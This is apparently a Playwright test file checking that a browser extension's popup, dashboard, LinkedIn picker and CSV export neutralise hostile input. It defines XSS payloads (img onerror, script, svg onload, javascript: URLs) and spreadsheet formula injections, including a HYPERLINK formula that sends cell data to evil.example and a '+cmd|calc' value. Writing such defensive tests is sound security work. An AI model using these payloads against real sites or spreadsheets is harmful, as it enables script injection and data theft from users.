// Hostile text put in through the real ways in (a library file, a restored backup, a person
// tracked from LinkedIn, a note) never runs and never becomes markup in the built extension:
// not in the popup, not in the dashboard, not in the picker on LinkedIn (page world and our
// content script's world), and exported CSV cells cannot be read as formulas.
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { evaluateInContentScript, sessionPerFile, type Session } from './launch';
import { OurUi, SHARE } from './our-ui';

const IMG = '<img src=x onerror="globalThis.__pwned=1">';
const SCRIPT = '<script>globalThis.__pwned=1</script>';
const SVG = '"><svg onload="globalThis.__pwned=1">';
const ALL = `${IMG}${SCRIPT}${SVG}`;
const JS_URL = 'javascript:globalThis.__pwned=1';
const THREAD = 'https://www.linkedin.com/messaging/thread/2-ada/';
const ADA = '/in/ada-sample-42';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';

let session: Session;
sessionPerFile((started) => (session = started));

/** What a payload could have become on a page, shadow roots included, and whether it ran. */
/** What hostile text could have become, anywhere, our closed roots included (read through CDP). */
async function damage(page: Page): Promise<{ found: string[]; pwned: unknown }> {
  const found: string[] = [];
  for (const { tag, attributes, text } of await (await OurUi.of(page)).elements()) {
    if (tag === 'script' && text.includes('__pwned')) found.push('<script>');
    if (tag === 'img' && attributes.some(([name, value]) => name === 'src' && value === 'x')) found.push('<img src=x>');
    for (const [name, value] of attributes) {
      if (name.startsWith('on') && value.includes('__pwned')) found.push(`${tag}[${name}]`);
      if ((name === 'href' || name === 'src') && /^\s*(javascript|data):/i.test(value)) found.push(`${tag}[${name}=${value}]`);
    }
  }
  return { found, pwned: await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned) };
}

async function expectUnharmed(page: Page) {
  expect(await damage(page)).toEqual({ found: [], pwned: undefined });
}

/** The text a view shows, its form fields' values included (notes are edited in place). */
function shown(page: Page): Promise<string> {
  return page
    .locator('main')
    .evaluate((main) =>
      [main.textContent ?? '', ...[...main.querySelectorAll('input, textarea')].map((field) => (field as HTMLInputElement).value)].join(
        '\n',
      ),
    );
}

/** Sends a request as an extension page does (the dashboard's own channel to the background). */
async function ask(page: Page, type: string, payload: unknown): Promise<Record<string, unknown>> {
  const answer = (await page.evaluate(([t, p]) => chrome.runtime.sendMessage({ type: t, payload: p }), [type, payload] as const)) as {
    ok: boolean;
    value: Record<string, unknown>;
    error?: unknown;
  };
  if (!answer.ok) throw new Error(`${type}: ${JSON.stringify(answer.error)}`);
  return answer.value;
}

describe('hostile text in the built extension', () => {
  it('goes in through the real ways: a library file, a backup, a tracked person, notes', async () => {
    const dashboard = await session.context.newPage();
    await dashboard.goto(session.url('src/dashboard/index.html#sources'));

    // A library file: titles, summaries and captions with markup.
    const library = [
      {
        url: 'https://example.com/pwnedtitle-file',
        title: `pwnedtitle file ${ALL}`,
        summary: `pwnedsummary ${ALL}`,
        stages: ['awareness'],
        captions: [`pwnedcaption ${ALL} {link}`],
      },
    ];
    await dashboard
      .locator('input[name="library-file"]')
      .setInputFiles({ name: `${SVG}.json`, mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(library)) });
    await expect.poll(() => dashboard.getByTestId('import-report').textContent(), { timeout: 15_000 }).toMatch(/1 added/);

    // A backup someone sent: it may hold any text. A javascript: address is refused whole (the
    // backup's records take http(s) addresses only); the same item with a web address goes in.
    const backup = JSON.parse(String((await ask(dashboard, 'backup.export', {}))['text'])) as {
      stores: Record<string, Record<string, unknown>[]>;
    };
    const now = Date.now();
    const pwned = {
      id: 'pwned-backup',
      url: JS_URL,
      title: `pwnedtitle backup ${ALL}`,
      summary: `pwnedsummary ${ALL}`,
      format: 'article',
      language: 'en',
      topics: [IMG],
      personas: [SVG],
      stages: ['awareness'],
      captions: [{ language: 'en', text: `pwnedcaption ${SCRIPT} {link}` }],
      publishedAt: now,
      expiresAt: null,
      freshAt: now,
      sourceId: null,
      example: false,
      addedAt: now,
      updatedAt: now,
      curatedAt: null,
    };
    await dashboard.goto(session.url('src/dashboard/index.html#data'));
    const restore = async (content: Record<string, unknown>) => {
      const file = { ...backup, stores: { ...backup.stores, content: [...backup.stores['content']!, content] } };
      await dashboard
        .locator('input[name="backup-file"]')
        .setInputFiles({ name: 'backup.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(file)) });
    };
    await restore(pwned);
    await expect.poll(() => dashboard.getByTestId('restore-status').textContent(), { timeout: 15_000 }).toMatch(/nothing was changed/);
    await restore({ ...pwned, url: 'https://example.com/pwned-backup' });
    // The restore shows what the file holds first, then merges it on the user's word.
    await dashboard.getByRole('button', { name: 'Merge', exact: true }).click();
    await expect.poll(() => dashboard.getByTestId('restore-status').textContent(), { timeout: 15_000 }).toMatch(/^Restored/);

    // A person tracked from the side panel, whose LinkedIn page showed a hostile name and company
    // (the panel tracks exactly what the page showed).
    const added = (await dashboard.evaluate((payload) => chrome.runtime.sendMessage({ type: 'prospects.add', payload }), {
      profilePath: ADA,
      name: IMG,
      headline: SVG,
      company: SCRIPT,
    })) as { ok: boolean };
    expect(added.ok).toBe(true);

    // Notes, and a person whose fields look like spreadsheet formulas.
    await ask(dashboard, 'prospects.update', { id: ADA, patch: { notes: ALL, tags: ['pwnedtag', IMG] } });
    const { id } = await ask(dashboard, 'activity.add', { kind: 'note', prospectId: ADA, note: 'first' });
    await ask(dashboard, 'activity.setNote', { id, note: `pwnednote ${ALL}` });
    await ask(dashboard, 'prospects.add', { profilePath: '/in/formula-fred', name: FORMULA, headline: '+cmd|calc', company: '@SUM(1+1)' });
    await ask(dashboard, 'activity.add', { kind: 'call', prospectId: '/in/formula-fred', note: '-2+3' });
    await expectUnharmed(dashboard);
    await dashboard.close();
  });

  it('shows as text in the popup', async () => {
    const popup = await session.context.newPage();
    await popup.goto(session.url('src/popup/index.html'));
    await popup.getByRole('searchbox').fill('pwnedtitle');
    await expect.poll(() => popup.locator('.item-title').allTextContents(), { timeout: 10_000 }).toContain(`pwnedtitle backup ${ALL}`);
    // The file's title was made plain text on import; either way, nothing of it is markup.
    expect(await popup.locator('.item-title').count()).toBe(2);
    await popup.waitForTimeout(300);
    await expectUnharmed(popup);
    await popup.close();
  });

  it('shows as text in every dashboard view', async () => {
    const dashboard = await session.context.newPage();
    const views: [string, string][] = [
      ['library', `pwnedtitle backup ${ALL}`],
      ['sources', `${SVG}.json`],
      ['prospects', IMG],
      // Name and headline in the heading, the notes in their field.
      [`prospect=${encodeURIComponent(ADA)}`, `${IMG}/in/ada-sample-42 · ${SVG}`],
      ['activity', `pwnednote ${ALL}`],
      ['insights', ''],
      ['data', ''],
    ];
    for (const [hash, literal] of views) {
      await dashboard.goto(session.url(`src/dashboard/index.html#${hash}`));
      await dashboard.locator('main').waitFor();
      if (literal) await expect.poll(() => shown(dashboard), { timeout: 10_000 }).toContain(literal);
      else await dashboard.waitForTimeout(500);
      await expectUnharmed(dashboard);
    }
    // The library's "Open" links are web addresses (no way in takes another kind any more; the
    // unit injection test stores a javascript: one past the checks and finds no link made of it).
    await dashboard.goto(session.url('src/dashboard/index.html#library'));
    await dashboard.locator('input[type="search"]').fill('pwnedtitle');
    await expect.poll(() => dashboard.locator('.results li').count(), { timeout: 10_000 }).toBe(2);
    expect((await dashboard.locator('.results a').evaluateAll((links) => links.map((a) => a.getAttribute('href')))).sort()).toEqual([
      'https://example.com/pwned-backup',
      'https://example.com/pwnedtitle-file',
    ]);
    await expectUnharmed(dashboard);
    await dashboard.close();
  });

  it('shows as text in the picker on LinkedIn, in the page and in our content script', async () => {
    const page = await session.context.newPage();
    await page.goto(THREAD);
    const ui = await OurUi.of(page);
    const inForm = { within: 'form.msg-form' };
    await ui.click({ role: 'button', name: SHARE, ...inForm });
    // Recommendations for the person name them: the hostile name, as text.
    await expect.poll(() => ui.textOf({ role: 'dialog', ...inForm }), { timeout: 10_000 }).toContain(IMG);
    await page.keyboard.type('pwnedtitle');
    await expect.poll(() => ui.names({ role: 'option', ...inForm }), { timeout: 10_000 }).toContain(`pwnedtitle backup ${ALL}`);
    await expectUnharmed(page);
    // Insert it: the caption goes into LinkedIn's composer as typed text, not as markup.
    await ui.click({ role: 'option', name: /^pwnedtitle backup/, ...inForm });
    const editor = page.locator('form.msg-form .msg-form__contenteditable');
    await expect.poll(() => editor.innerText(), { timeout: 10_000 }).toContain(`pwnedcaption ${SCRIPT}`);
    await page.waitForTimeout(300);
    await expectUnharmed(page);
    expect(await evaluateInContentScript(page, 'globalThis.__pwned')).toBeUndefined();
    await page.close();
  });

  it('exports CSV cells that a spreadsheet cannot run as formulas', async () => {
    const dashboard = await session.context.newPage();
    const cells: string[] = [];
    for (const [hash, button] of [
      ['activity', 'Export CSV'],
      ['prospects', 'Export CSV'],
    ] as const) {
      await dashboard.goto(session.url(`src/dashboard/index.html#${hash}`));
      await expect.poll(() => dashboard.locator('main').textContent(), { timeout: 10_000 }).toContain('HYPERLINK');
      const download = dashboard.waitForEvent('download');
      await dashboard.getByRole('button', { name: button }).first().click();
      const text = readFileSync((await (await download).path())!, 'utf8').replace(/^\uFEFF/, '');
      cells.push(...Papa.parse<string[]>(text, { newline: '\r\n' }).data.flat());
    }
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells).toContain("'@SUM(1+1)");
    expect(cells).toContain("'-2+3");
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    await dashboard.close();
  });
});
